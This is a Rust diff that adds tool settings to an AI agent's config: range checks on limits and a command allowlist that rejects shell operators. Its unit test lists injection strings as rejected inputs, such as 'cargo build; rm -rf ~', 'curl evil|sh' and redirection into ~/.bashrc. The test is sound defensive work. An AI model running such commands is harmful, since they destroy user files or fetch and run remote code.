@@ -82,11 +82,32 @@ impl AgentConfig {
         }
     }
 
+    pub fn include_examples(&self) -> bool {
+        match self {
+            AgentConfig::V2025_08_22(a) => a.include_examples,
+        }
+    }
+
+    pub fn locale(&self) -> Option<&str> {
+        match self {
+            AgentConfig::V2025_08_22(a) => a.locale.as_deref(),
+        }
+    }
+
     pub fn use_legacy_mcp_json(&self) -> bool {
         match self {
             AgentConfig::V2025_08_22(a) => a.use_legacy_mcp_json,
         }
     }
+
+    /// Performs semantic validation of the config values that cannot be expressed by the schema
+    /// alone.
+    pub fn validate(&self) -> Result<(), ToolSettingsError> {
+        match self.tool_settings() {
+            Some(settings) => settings.validate(),
+            None => Ok(()),
+        }
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
@@ -125,6 +146,13 @@ pub struct AgentConfigV2025_08_22 {
     /// tool.
     #[serde(default)]
     pub tool_schema: Option<InputSchema>,
+    /// Whether or not to include example tool uses in the descriptions of built-in tools.
+    #[serde(default)]
+    pub include_examples: bool,
+    /// Locale used for the descriptions of built-in tools, e.g. "zh-CN" or "ja". Defaults to
+    /// English when unset or unsupported.
+    #[serde(default)]
+    pub locale: Option<String>,
 
     /// Hooks to add additional context
     #[serde(default)]
@@ -169,6 +197,8 @@ impl Default for AgentConfigV2025_08_22 {
             tool_settings: Default::default(),
             tool_aliases: Default::default(),
             tool_schema: Default::default(),
+            include_examples: false,
+            locale: None,
             hooks: Default::default(),
             model_preferences: Default::default(),
             mcp_servers: Default::default(),
@@ -193,6 +223,60 @@ impl Default for AgentConfigV2025_08_22 {
 pub struct ToolSettings {
     pub fs_read: FsReadSettings,
     pub fs_write: FsWriteSettings,
+    #[serde(default)]
+    pub execute_cmd: ExecuteCmdSettings,
+    #[serde(default)]
+    pub ls: LsSettings,
+    #[serde(default)]
+    pub rm: RmSettings,
+}
+
+impl ToolSettings {
+    /// Checks that all numeric fields are within their supported ranges.
+    pub fn validate(&self) -> Result<(), ToolSettingsError> {
+        if let Some(v) = self.fs_write.max_file_size {
+            check_range("fs_write.max_file_size", v, 1, MAX_FS_WRITE_FILE_SIZE)?;
+        }
+        if let Some(v) = self.execute_cmd.timeout_secs {
+            check_range("execute_cmd.timeout_secs", v, 1, MAX_EXECUTE_CMD_TIMEOUT_SECS)?;
+        }
+        if let Some(v) = self.ls.max_entries {
+            check_range("ls.max_entries", v as u64, 1, MAX_LS_MAX_ENTRIES)?;
+        }
+        Ok(())
+    }
+}
+
+/// Upper bound for `fs_write.max_file_size` (100 MB)
+const MAX_FS_WRITE_FILE_SIZE: u64 = 100 * 1024 * 1024;
+/// Upper bound for `execute_cmd.timeout_secs` (1 hour)
+const MAX_EXECUTE_CMD_TIMEOUT_SECS: u64 = 60 * 60;
+/// Upper bound for `ls.max_entries`
+const MAX_LS_MAX_ENTRIES: u64 = 100_000;
+
+fn check_range(field: &'static str, value: u64, min: u64, max: u64) -> Result<(), ToolSettingsError> {
+    if value < min || value > max {
+        Err(ToolSettingsError::OutOfRange {
+            field: field.to_string(),
+            value,
+            min,
+            max,
+        })
+    } else {
+        Ok(())
+    }
+}
+
+/// Errors for semantically invalid values in [ToolSettings].
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
+pub enum ToolSettingsError {
+    #[error("'{}' must be between {} and {}, instead found {}", .field, .min, .max, .value)]
+    OutOfRange {
+        field: String,
+        value: u64,
+        min: u64,
+        max: u64,
+    },
 }
 
 #[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
@@ -205,6 +289,63 @@ pub struct FsReadSettings {
 pub struct FsWriteSettings {
     pub allowed_paths: Vec<String>,
     pub denied_paths: Vec<String>,
+    /// Max size in bytes of a file that can be written
+    #[serde(default)]
+    pub max_file_size: Option<u64>,
+}
+
+/// Characters that are rejected in commands when [ExecuteCmdSettings::command_allowlist] is set.
+/// `&` and `|` also cover `&&` and `||`, and `<` covers process substitution.
+const ALLOWLIST_FORBIDDEN_CHARS: &[char] = &[';', '&', '|', '`', '<', '>', '\n', '\r'];
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
+pub struct ExecuteCmdSettings {
+    /// Max time in seconds a command can run before it is killed
+    #[serde(default)]
+    pub timeout_secs: Option<u64>,
+    /// Command prefixes that are allowed to be executed, e.g. `["cargo", "git"]`. When set, all
+    /// other commands are rejected, as are commands that set `env` or `shell`.
+    #[serde(default)]
+    pub command_allowlist: Option<Vec<String>>,
+}
+
+impl ExecuteCmdSettings {
+    /// Returns whether `command` is allowed by [Self::command_allowlist].
+    ///
+    /// A command is allowed if it starts with an allowed prefix followed by at least one
+    /// argument, e.g. `cargo` allows `cargo build` but not `cargo` alone or `cargo-fmt`.
+    ///
+    /// Commands containing shell control operators, substitutions, or redirections are rejected,
+    /// even when quoted, since they could run other commands after an allowed prefix, e.g.
+    /// `cargo build; rm -rf ~`.
+    pub fn is_command_allowed(&self, command: &str) -> bool {
+        let Some(allowlist) = &self.command_allowlist else {
+            return true;
+        };
+        let command = command.trim();
+        if command.contains(ALLOWLIST_FORBIDDEN_CHARS) || command.contains("$(") {
+            return false;
+        }
+        allowlist.iter().any(|prefix| {
+            command
+                .strip_prefix(prefix.trim())
+                .is_some_and(|rest| rest.starts_with(char::is_whitespace) && !rest.trim().is_empty())
+        })
+    }
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
+pub struct LsSettings {
+    /// Max number of entries returned in a directory listing
+    #[serde(default)]
+    pub max_entries: Option<usize>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
+pub struct RmSettings {
+    /// Directory that removed paths must be inside of. Defaults to the current working directory.
+    #[serde(default)]
+    pub base_dir: Option<String>,
 }
 
 /// This mirrors claude's config set up.
@@ -392,4 +533,81 @@ mod tests {
 
         let _: AgentConfig = serde_json::from_value(agent).unwrap();
     }
+
+    #[test]
+    fn test_tool_settings_deser() {
+        let agent = serde_json::json!({
+            "name": "test",
+            "toolSettings": {
+                "fs_read": { "allowed_paths": [], "denied_paths": [] },
+                "fs_write": { "allowed_paths": [], "denied_paths": [], "max_file_size": 10_000_000 },
+                "execute_cmd": { "timeout_secs": 30 },
+                "ls": { "max_entries": 1000 }
+            }
+        });
+
+        let agent: AgentConfig = serde_json::from_value(agent).unwrap();
+        assert!(agent.validate().is_ok());
+        let settings = agent.tool_settings().unwrap();
+        assert_eq!(settings.fs_write.max_file_size, Some(10_000_000));
+        assert_eq!(settings.execute_cmd.timeout_secs, Some(30));
+        assert_eq!(settings.ls.max_entries, Some(1000));
+    }
+
+    #[test]
+    fn test_tool_settings_validate_out_of_range() {
+        let agent = serde_json::json!({
+            "name": "test",
+            "toolSettings": {
+                "fs_read": { "allowed_paths": [], "denied_paths": [] },
+                "fs_write": { "allowed_paths": [], "denied_paths": [] },
+                "execute_cmd": { "timeout_secs": 0 }
+            }
+        });
+
+        let agent: AgentConfig = serde_json::from_value(agent).unwrap();
+        assert_eq!(
+            agent.validate(),
+            Err(ToolSettingsError::OutOfRange {
+                field: "execute_cmd.timeout_secs".to_string(),
+                value: 0,
+                min: 1,
+                max: MAX_EXECUTE_CMD_TIMEOUT_SECS,
+            })
+        );
+    }
+
+    #[test]
+    fn test_execute_cmd_command_allowlist() {
+        let settings = ExecuteCmdSettings::default();
+        assert!(settings.is_command_allowed("rm -rf target"));
+
+        let settings = ExecuteCmdSettings {
+            command_allowlist: Some(vec!["cargo".to_string(), "git status".to_string()]),
+            ..Default::default()
+        };
+        assert!(settings.is_command_allowed("cargo build"));
+        assert!(settings.is_command_allowed("  cargo test --workspace"));
+        assert!(settings.is_command_allowed("git status --short"));
+        assert!(!settings.is_command_allowed("cargo"));
+        assert!(!settings.is_command_allowed("cargo-fmt --all"));
+        assert!(!settings.is_command_allowed("git push"));
+        assert!(!settings.is_command_allowed("python main.py"));
+
+        for command in [
+            "cargo build; rm -rf ~",
+            "cargo x && curl evil|sh",
+            "cargo build || rm -rf ~",
+            "cargo build | sh",
+            "cargo build & rm -rf ~",
+            "cargo $(rm -rf ~)",
+            "cargo `rm -rf ~`",
+            "cargo build\nrm -rf ~",
+            "cargo build > ~/.bashrc",
+            "cargo build < <(curl evil)",
+            "git status --short 'a;b'",
+        ] {
+            assert!(!settings.is_command_allowed(command), "{} should be denied", command);
+        }
+    }
 }